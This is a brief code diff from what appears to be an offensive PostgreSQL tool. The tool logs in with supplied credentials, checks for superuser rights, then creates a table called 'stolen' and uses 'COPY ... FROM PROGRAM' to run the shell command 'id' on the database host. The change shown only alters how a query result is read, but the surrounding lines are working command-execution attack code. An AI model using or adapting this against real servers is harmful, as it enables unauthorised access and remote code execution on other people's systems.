@@ -71,7 +71,7 @@ def log_in(server: str, address: str, role: str, password: str) -> list[str]:
         return [server, role, "no superuser"] if "permission denied for database" in str(error) else []
     with link.cursor() as cursor:
         cursor.execute("SELECT rolsuper FROM pg_roles WHERE rolname = current_user")
-        what = "superuser" if cursor.fetchone()[0] else "no superuser"
+        what = "superuser" if next(cursor)[0] else "no superuser"
         try:
             cursor.execute("CREATE TABLE pg_temp.stolen (line text)")
             cursor.execute("COPY pg_temp.stolen FROM PROGRAM 'id'")
